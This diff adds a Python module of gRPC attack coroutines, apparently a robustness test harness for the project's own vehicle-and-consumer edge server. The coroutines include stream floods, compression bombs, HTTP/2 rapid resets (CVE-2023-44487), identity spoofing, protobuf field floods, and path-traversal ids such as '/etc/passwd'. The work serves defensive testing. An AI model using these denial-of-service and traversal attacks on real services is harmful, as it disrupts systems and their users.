@@ -1,0 +1,293 @@
+"""Attacks by calls: of vehicles and consumers with certificates of their own.
+
+Each attack is a coroutine that goes on until it is cancelled; none waits for an answer that a decoy
+would not give, so that the same load can be aimed at one, to see what it costs alone.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import itertools
+import math
+import random
+from collections.abc import AsyncIterator, Callable
+from dataclasses import replace
+from pathlib import Path
+
+import grpc
+
+from attack.target import SEED, VEHICLE, Target, all_of, for_ever, frame, hello, stream_of
+from rfcore.wire.conventions import CHANNEL_OPTIONS, STREAM_METHOD
+from rfcore.wire.convert import client_message_to_bytes
+from rfcore.wire.twin import PictureEncoding, Subscription, subscription_to_wire
+from rfcore.wire.v1 import edge_pb2, field_pb2, field_pb2_grpc, twin_pb2_grpc
+
+
+async def unread_fetches(target: Target) -> None:
+    """750 FetchField streams of one consumer that nobody reads."""
+
+    async def connection() -> None:
+        async with target.channel("consumer-attacker") as channel:
+            stub = field_pb2_grpc.FieldServiceStub(channel)
+            request = field_pb2.FetchFieldRequest(field_id=target.field_id)
+            calls = [stub.FetchField(request) for _ in range(250)]
+            await asyncio.sleep(1.0)
+            del calls
+
+    await all_of(*(for_ever(connection) for _ in range(3)))
+
+
+async def decoders_for_nothing(target: Target) -> None:
+    """8 streams with 16 cameras each, a decoder process for each camera."""
+    data = client_message_to_bytes(hello(target, 640, 360, 16))
+
+    async def stream() -> None:
+        async with target.channel() as channel:
+            call = channel.stream_stream(STREAM_METHOD)()
+            await call.write(data)
+            await asyncio.sleep(2.0)
+
+    await all_of(*(for_ever(stream) for _ in range(8)))
+
+
+async def frames_that_cost_a_render(
+    target: Target, *, good_crc: bool, size: tuple[int, int]
+) -> None:
+    greeting = client_message_to_bytes(hello(target, *size))
+
+    async def messages() -> AsyncIterator[bytes]:
+        yield greeting
+        for sequence in range(100_000):
+            yield client_message_to_bytes(frame(sequence, good_crc=good_crc, payload=b"\x41junk"))
+            await asyncio.sleep(0.002)
+
+    async def stream() -> None:
+        async with target.channel() as channel:
+            await stream_of(channel, messages())
+
+    await all_of(*(for_ever(stream, 0.05) for _ in range(4)))
+
+
+async def bad_crc(target: Target) -> None:
+    """Frames of 2048x1152 with a wrong CRC, as fast as they are taken."""
+    await frames_that_cost_a_render(target, good_crc=False, size=(2048, 1152))
+
+
+async def junk_slices(target: Target) -> None:
+    """Frames of 1280x720 with a good CRC and nothing decodable, as fast as they are taken."""
+    await frames_that_cost_a_render(target, good_crc=True, size=(1280, 720))
+
+
+async def greedy_promise(target: Target) -> None:
+    """One Hello that asks for 16 cameras of 1080p at 1000 Hz, then nothing."""
+    data = client_message_to_bytes(hello(target, 1920, 1080, 16, 1000.0))
+
+    async def stream() -> None:
+        async with target.channel() as channel:
+            call = channel.stream_stream(STREAM_METHOD)()
+            await call.write(data)
+            await asyncio.sleep(5.0)
+
+    await for_ever(stream)
+
+
+async def cancelled_hellos(target: Target) -> None:
+    """Streams that are cancelled right after their Hello."""
+    data = client_message_to_bytes(hello(target, 640, 360, 8))
+
+    async def stream() -> None:
+        async with target.channel() as channel:
+            for _ in range(20):
+                call = channel.stream_stream(STREAM_METHOD)()
+                await call.write(data)
+                call.cancel()
+
+    await all_of(*(for_ever(stream, 0.02) for _ in range(4)))
+
+
+async def unread_refusals(target: Target) -> None:
+    """4 streams of messages that are refused one by one, and no answer is read."""
+    rng = random.Random(SEED)
+
+    async def messages() -> AsyncIterator[bytes]:
+        yield client_message_to_bytes(hello(target, 640, 360))
+        while True:
+            yield rng.randbytes(200)
+
+    async def stream() -> None:
+        async with target.channel() as channel:
+            await stream_of(channel, messages())
+
+    await all_of(*(for_ever(stream, 0.02) for _ in range(4)))
+
+
+async def unread_watches(target: Target) -> None:
+    """16 consumers of one identity that watch uncoded pictures and read nothing."""
+    request = subscription_to_wire(Subscription(encoding=PictureEncoding.I420))
+
+    async def consumer() -> None:
+        async with target.channel("consumer-attacker") as channel:
+            call = twin_pb2_grpc.TwinServiceStub(channel).Watch(request)
+            await asyncio.sleep(2.0)
+            call.cancel()
+
+    await all_of(*(for_ever(consumer) for _ in range(16)))
+
+
+async def impossible_times(target: Target) -> None:
+    """Frames captured at time 0 and at 2^63 - 1."""
+    greeting = client_message_to_bytes(hello(target, 320, 180))
+
+    async def messages() -> AsyncIterator[bytes]:
+        yield greeting
+        for sequence in range(100_000):
+            shown = frame(sequence, good_crc=True, captured_ns=(0, 2**63 - 1)[sequence % 2])
+            yield client_message_to_bytes(shown)
+            await asyncio.sleep(0.02)
+
+    async def stream() -> None:
+        async with target.channel() as channel:
+            await stream_of(channel, messages())
+
+    await for_ever(stream, 0.05)
+
+
+async def many_streams(target: Target) -> None:
+    """2000 streams of one identity, none with a Hello."""
+
+    async def connection() -> None:
+        async with target.channel() as channel:
+            calls = [channel.stream_stream(STREAM_METHOD)() for _ in range(500)]
+            await asyncio.sleep(1.0)
+            for call in calls:
+                call.cancel()
+
+    await all_of(*(for_ever(connection) for _ in range(4)))
+
+
+async def compressed_bombs(target: Target) -> None:
+    """Messages of 16 MiB of zeros, compressed to 16 KiB."""
+    bomb = bytes(16 << 20)
+
+    async def stream() -> None:
+        credentials = target.tls(f"vehicle-{VEHICLE}").channel_credentials()
+        async with grpc.aio.secure_channel(
+            target.address, credentials, CHANNEL_OPTIONS, grpc.Compression.Gzip
+        ) as channel:
+            await channel.stream_stream(STREAM_METHOD)().write(bomb)
+            await asyncio.sleep(0.2)
+
+    await for_ever(stream)
+
+
+async def rapid_resets(target: Target) -> None:
+    """Calls that are reset as soon as they are made (CVE-2023-44487)."""
+
+    async def connection() -> None:
+        async with target.channel() as channel:
+            for _ in range(2000):
+                channel.stream_stream(STREAM_METHOD)().cancel()
+                await asyncio.sleep(0)
+
+    await for_ever(connection)
+
+
+async def foreign_names(target: Target) -> None:
+    """Hellos under another vehicle's name."""
+    data = client_message_to_bytes(replace(hello(target, 640, 360), vehicle_id="bystander"))
+
+    async def stream() -> None:
+        async with target.channel() as channel:
+            for _ in range(10):
+                call = channel.stream_stream(STREAM_METHOD)()
+                await call.write(data)
+                await call.code()
+
+    await for_ever(stream, 0.01)
+
+
+async def stream_for_ever(
+    target: Target, greeting: bytes, messages: Callable[[int], bytes]
+) -> None:
+    """Send ``messages(0)``, ``messages(1)``, ... after a Hello, 200 a second, for ever."""
+
+    async def numbered() -> AsyncIterator[bytes]:
+        yield greeting
+        for number in range(1_000_000):
+            yield messages(number)
+            await asyncio.sleep(0.005)
+
+    async def stream() -> None:
+        async with target.channel() as channel:
+            await stream_of(channel, numbered())
+
+    await for_ever(stream, 0.05)
+
+
+async def refused_frames(target: Target) -> None:
+    """Frames whose sequence has a gap: a Nack for each."""
+    greeting = client_message_to_bytes(hello(target, 320, 180))
+    await stream_for_ever(
+        target, greeting, lambda n: client_message_to_bytes(frame(2 * n + 1, good_crc=True))
+    )
+
+
+async def unknown_fields(target: Target) -> None:
+    """Messages with 200,000 fields that nobody knows."""
+    tag = bytes([0xF8, 0xFF, 0x07, 0x01])  # field 16383, varint 1
+    many = tag * 200_000
+    greeting = client_message_to_bytes(hello(target, 320, 180))
+    await stream_for_ever(target, greeting, lambda _: many)
+
+
+async def odd_numbers(target: Target) -> None:
+    """Poses of NaN, infinity and 1e30 m, sequences of 2^63."""
+    numbers = (math.nan, math.inf, 1e30)
+
+    def message(number: int) -> bytes:
+        request = edge_pb2.StreamRequest()
+        request.ParseFromString(client_message_to_bytes(frame(number, good_crc=True)))
+        request.frame.pose.x_m = numbers[number % 3]
+        del request.frame.pose_f32[:]
+        return request.SerializeToString()
+
+    greeting = client_message_to_bytes(hello(target, 320, 180))
+    await stream_for_ever(target, greeting, message)
+
+
+async def foreign_paths(target: Target) -> None:
+    """FetchField of ids that are paths out of the folder, or 1 MB long."""
+    ids = ("../server.key", "/etc/passwd", "..%2f..%2fca.key", "\0", "a" * 1_000_000, "f" * 64)
+
+    async def connection() -> None:
+        async with target.channel("consumer-attacker") as channel:
+            stub = field_pb2_grpc.FieldServiceStub(channel)
+            for field_id in ids:
+                stub.FetchField(field_pb2.FetchFieldRequest(field_id=field_id))
+            await asyncio.sleep(0.05)
+
+    await all_of(*(for_ever(connection) for _ in range(2)))
+
+
+async def many_connections(target: Target) -> None:
+    """300 connections of one identity, each with a Hello."""
+    data = client_message_to_bytes(hello(target, 320, 180))
+
+    async def connection() -> None:
+        async with target.channel() as channel:
+            await channel.stream_stream(STREAM_METHOD)().write(data)
+            await asyncio.sleep(2.0)
+
+    await all_of(*(for_ever(connection) for _ in range(300)))
+
+
+async def revoked(target: Target) -> None:
+    """Streams that go on while their certificate is revoked, let in, revoked again."""
+
+    async def access() -> None:
+        for number in itertools.count():
+            rule = f'revoked = ["spiffe://rfedge/vehicle/{VEHICLE}"]' * (number % 2)
+            Path(target.access).write_text(rule)
+            await asyncio.sleep(1.5)
+
+    await all_of(access(), junk_slices(target))
